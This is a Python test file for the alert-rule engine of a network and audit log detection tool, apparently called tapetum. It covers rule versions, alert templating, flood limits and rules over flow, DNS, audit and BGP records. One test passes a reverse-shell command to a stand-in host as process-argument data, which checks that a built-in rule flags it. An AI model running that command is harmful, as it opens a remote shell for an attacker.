"""Rules on the stream: each record is judged once, by the rules of that moment, as a query would judge it."""

import random
from collections.abc import Generator
from dataclasses import replace
from itertools import count
from pathlib import Path
from typing import Any

import pytest
import structlog
from hypothesis import given, settings
from hypothesis import strategies as st

from tapetum.catalog.documents import Removal
from tapetum.detect.trying import tried
from tapetum.domain.alerts import Alert
from tapetum.domain.batches import Batch, RecordKind
from tapetum.domain.endpoints import NodeKind, NodeRef
from tapetum.domain.moments import TimeRange
from tapetum.domain.record_ends import telling_apart
from tapetum.domain.scope import EVERYTHING
from tapetum.domain.shapes import SHAPES
from tapetum.kql import parse
from tapetum.logstore.port import Order, Search
from tapetum.service.embedded import Embedded
from tests.support.factory import DAY, HOUR, NOW, Flow, Hit, batch, net, wep
from tests.support.kql_batches import batch_of, identified
from tests.support.kql_cases import NOW as CASES_NOW
from tests.support.kql_cases import Cases
from tests.support.records import entry, record_batch
from tests.support.rules import RULE, body, draft
from tests.support.stores import Clock, store

NUMBERS = count()
LONG_AGO = TimeRange(0, NOW + 400 * DAY)


@pytest.fixture
def embedded(tmp_path: Path) -> Generator[Embedded]:
    with store(tmp_path) as opened:
        yield opened


async def save(embedded: Embedded, rule_id: str, text: str, version: int | None = None) -> None:
    await embedded.catalog.save_document(EVERYTHING, None, draft(rule_id, text, version))


async def raised(embedded: Embedded) -> list[Alert]:
    found = await embedded.logs.alerts_after(EVERYTHING, 0, 500)
    return [one.alert for one in found if one.alert.kind == "alert_rule"]


async def test_a_rule_that_was_deleted_and_saved_anew_is_in_force_as_it_is(embedded: Embedded) -> None:
    """Its version is 1 again, and nothing came while it was gone."""
    await save(embedded, "again", body("dest_port:1"))
    embedded.commit(batch([Flow(port=80, mark=1)]))
    await embedded.catalog.remove_document(EVERYTHING, None, Removal("again", RULE, None))
    anew = replace(draft("again", body("dest_port:80")), at=NOW + 1)
    await embedded.catalog.save_document(EVERYTHING, None, anew)
    embedded.commit(batch([Flow(port=80, mark=2)]))
    assert len(await raised(embedded)) == 1


async def test_a_record_raises_what_the_rule_says_of_it(embedded: Embedded) -> None:
    text = body(
        "policy_hits:{action:deny} and dest_port:5432",
        summary="${source_name_aggr} to ${dest_name_aggr} port ${dest_port}",
        description="${policy_hits.name} denied it at ${start_time}; ${process_name}, ${dest_labels}.",
        mitigations=["Look at ${source_namespace}."],
        technique="T1046",
        tactic="TA0007",
    )
    await save(embedded, "r", text)
    hits = (Hit(0, "app", "stop", "deny", namespace="shop"), Hit(1, "app", "more", "pass"))
    labels = ("dest_labels", ["app=db", "tier=back"])
    given = Flow(port=5432, action="deny", hits=hits, fields=(labels,), dest=wep("pay", "db"))
    embedded.commit(batch([Flow(port=5432), given, Flow(port=80, hits=hits)]))
    (alert,) = await raised(embedded)
    assert (alert.title, alert.mitigations) == ("web-* to db-* port 5432", ("Look at shop.",))
    assert alert.description == "stop, more denied it at 2026-11-23T14:27:21.500Z; -, app=db, tier=back."
    assert (alert.technique, alert.tactic, alert.severity) == ("T1046", "TA0007", 60)
    assert (alert.rule, alert.time, alert.evidence) == ("A rule", given.at, (given.id,))
    assert alert.source == NodeRef(NodeKind.WORKLOAD, "east", "shop", "web-*")
    assert (alert.target, alert.port) == (NodeRef(NodeKind.WORKLOAD, "east", "pay", "db-*"), 5432)


async def test_a_flood_is_told_once_an_hour_for_each_edge(embedded: Embedded) -> None:
    await save(embedded, "r", body("action:allow"))
    flood = [Flow(mark=mark, at=NOW - HOUR // 4 + mark) for mark in range(40)]
    embedded.commit(batch(flood[20:]))
    embedded.commit(batch(flood))
    embedded.commit(batch([Flow(port=81), Flow(dest=net("pub")), Flow(at=NOW - HOUR)]))
    first, *others = await raised(embedded)
    assert first.evidence == tuple(flow.id for flow in flood[20:30])
    assert {(each.port, each.time, each.target and each.target.kind) for each in others} == {
        (81, NOW - HOUR // 6, NodeKind.WORKLOAD),
        (80, NOW - HOUR // 6, NodeKind.NETWORK),
        (80, NOW - HOUR, NodeKind.WORKLOAD),
    }


async def test_rules_of_the_moment_count_and_broken_ones_stop_nothing(embedded: Embedded) -> None:
    with structlog.testing.capture_logs() as told:
        await save(embedded, "a-broken", '{"format": 1}')
        await save(embedded, "b-unknown", body("no_such_field:1"))
        await save(embedded, "c", body("*"))
        await save(embedded, "d-off", body("*", enabled=False))
        await save(embedded, "e-elsewhere", body("*", clusters=["west"]))
        for mark in range(2):
            embedded.commit(batch([Flow(mark=mark)]))
    assert len(await raised(embedded)) == 1
    assert [each["rule"] for each in told if "not in force" in each["event"]] == ["a-broken", "b-unknown"]
    await save(embedded, "c", body("dest_port:1"), version=1)
    embedded.commit(batch([Flow(port=443)]))
    assert len(await raised(embedded)) == 1
    await save(embedded, "c", body("dest_port:(1 or 443)"), version=2)
    embedded.commit(batch([Flow(port=443, mark=9)]))
    assert len(await raised(embedded)) == 2


async def test_what_ships_is_in_force_until_a_saved_rule_takes_its_id(embedded: Embedded) -> None:
    shell = ("process_args", ["-c", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"])
    embedded.commit(batch([Flow(fields=(shell,))]))
    (alert,) = await raised(embedded)
    assert (alert.rule, alert.technique) == ("Suspicious process arguments", "T1059")
    await save(embedded, "builtin.suspicious-arguments", body("*", enabled=False))
    embedded.commit(batch([Flow(port=81, fields=(shell,))]))
    assert len(await raised(embedded)) == 1


async def test_a_rule_that_fails_is_told_and_the_others_go_on(
    embedded: Embedded, monkeypatch: pytest.MonkeyPatch
) -> None:
    await save(embedded, "r", body("*"))

    def fail(*_: Any) -> Any:
        raise ZeroDivisionError

    monkeypatch.setattr("tapetum.detect.rules.ends_of", fail)
    with structlog.testing.capture_logs() as told:
        assert embedded.commit(batch([Flow()])).accepted == 1
    assert [each["rule"] for each in told] == ["r"]
    assert await raised(embedded) == []


async def test_rules_watch_every_kind(embedded: Embedded) -> None:
    await save(embedded, "dns", body("rcode:NXDomain", RecordKind.DNS))
    await save(embedded, "audit", body("verb:delete", RecordKind.AUDIT, summary="${user.username}"))
    await save(embedded, "bgp", body("event:error", RecordKind.BGP))
    lookup = entry(
        RecordKind.DNS, client_namespace="shop", client_name_aggr="web-*", qname="x.y", rcode="NXDomain"
    )
    gone = {"verb": "delete", "objectRef__namespace": "shop", "objectRef__name": "stop"}
    deleted = [entry(RecordKind.AUDIT, **gone, user__username=name) for name in ("ann", "bob")]
    session = entry(RecordKind.BGP, host="n1", event="error", peer="Mesh_1")
    for each in ([lookup], deleted, [session]):
        embedded.commit(record_batch(each))
    dns, ann, bob, bgp = await raised(embedded)
    assert dns.source == NodeRef(NodeKind.WORKLOAD, "east", "shop", "web-*")
    assert dns.target == NodeRef(NodeKind.FQDN, "east", None, "x.y")
    assert {ann.title, bob.title} == {"ann", "bob"}
    assert (ann.source, ann.target) == (None, NodeRef(NodeKind.NAMESPACE, "east", "shop", "shop"))
    assert (ann.evidence_kind, bgp.source) == (RecordKind.AUDIT, NodeRef(NodeKind.HOST, "east", None, "n1"))


async def test_a_filter_may_speak_of_now(embedded: Embedded) -> None:
    await save(embedded, "r", body("start_time < now-1h"))
    embedded.commit(batch([Flow(at=NOW - HOUR // 2)]))
    assert await raised(embedded) == []
    embedded.commit(batch([Flow(at=NOW - 2 * HOUR)]))
    assert len(await raised(embedded)) == 1


FLOW_FILTERS = (
    "*", "action:deny", "dest_port > 100 and not action:deny", "source_name_aggr:w*", "dest_type:net",
    "policies:{enforced_policies:deny}", "policy_hits:{action:deny and tier:app} or dest_port:80",
    "not dest_domain:*",
)  # fmt: skip


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Generator[Embedded]:
    """For rules and records of clusters of their own."""
    with store(tmp_path_factory.mktemp("rules"), Clock()) as opened:
        yield opened


def some_flows(chance: random.Random, cluster: str) -> list[Flow]:
    stop = Hit(0, "app", "stop", "deny", namespace="shop")
    return [
        Flow(
            source=chance.choice([wep("shop", "web"), wep("pay", "api")]),
            dest=chance.choice([wep("shop", "db"), net("pub")]),
            at=NOW - chance.randrange(3 * HOUR),
            action=chance.choice(["allow", "deny"]),
            port=chance.choice([80, 443, None]),
            domain=chance.choice([None, "a.example"]),
            hits=chance.choice([(), (stop,)]),
            cluster=cluster,
            mark=mark,
        )
        for mark in range(chance.randrange(1, 30))
    ]


def some_records(chance: random.Random, kind: RecordKind, cluster: str) -> list[Batch]:
    cases = Cases(kind, chance)
    records = identified([cases.record() for _ in range(40)], cluster)
    parts = (records[:15], records[10:30], records[25:])
    return [
        replace(batch_of(kind, part, cluster), id=f"{cluster}-{place}") for place, part in enumerate(parts)
    ]


def cut(chance: random.Random, flows: list[Flow], cluster: str) -> list[Batch]:
    """Into parts that overlap."""
    first, second = sorted(chance.choices(range(len(flows) + 1), k=2))
    parts = (flows[:first], flows[first:second], flows[second:], flows[::2])
    return [batch(part, cluster=cluster) for part in parts if part]


async def agree(stores: Embedded, chance: random.Random, batches: list[Batch], text: str) -> None:
    """Each hour of what is alike among the stored records that the rule finds as a query raised one alert.

    Batches come in any order, some of them twice.
    """
    kind, cluster = batches[0].kind, batches[0].cluster
    await save(stores, f"of {cluster}", body(text, kind, clusters=[cluster]))
    given = batches + chance.choices(batches, k=chance.randrange(3))
    for each in chance.sample(given, len(given)):
        stores.commit(each)
    time = SHAPES[kind].time
    search = Search(kind, LONG_AGO, frozenset({cluster}), parse(text))
    records = (await stores.logs.search(EVERYTHING, search, Order(time), 500, None)).records
    apart = {(one[time] // HOUR, *(one[name] for name in telling_apart(kind))) for one in records}
    asked = Search(RecordKind.ALERTS, LONG_AGO, frozenset({cluster}), parse("kind:alert_rule"))
    alerts = (await stores.logs.search(EVERYTHING, asked, Order("time"), 500, None)).records
    assert len(alerts) == len(apart)
    rule = next(rule for rule in stores.rulebook.rules.rules if rule.id == f"of {cluster}")
    trial = await tried(stores.logs, EVERYTHING, rule, LONG_AGO, [cluster])
    assert {one.alert.id for one in trial.raised} == {alert["id"] for alert in alerts}
    found = {one["id"] for one in records}
    for alert in alerts:
        assert alert["evidence"]
        assert set(alert["evidence"]) <= found


@settings(max_examples=4, deadline=None)
@given(st.integers(0, 2**32), st.sampled_from(FLOW_FILTERS))
async def test_flows_raise_what_the_rule_finds_as_a_query(shared: Embedded, seed: int, text: str) -> None:
    chance = random.Random(seed)
    shared.clock.now = NOW
    cluster = f"flows-{next(NUMBERS)}"
    await agree(shared, chance, cut(chance, some_flows(chance, cluster), cluster), text)


@settings(max_examples=4, deadline=None)
@given(st.integers(0, 2**32), st.sampled_from([RecordKind.DNS, RecordKind.AUDIT, RecordKind.BGP]))
async def test_records_of_other_kinds_do_too(shared: Embedded, seed: int, kind: RecordKind) -> None:
    chance = random.Random(seed)
    shared.clock.now = CASES_NOW
    text = str(Cases(kind, chance).query())
    await agree(shared, chance, some_records(chance, kind, f"{kind}-{next(NUMBERS)}"), text)
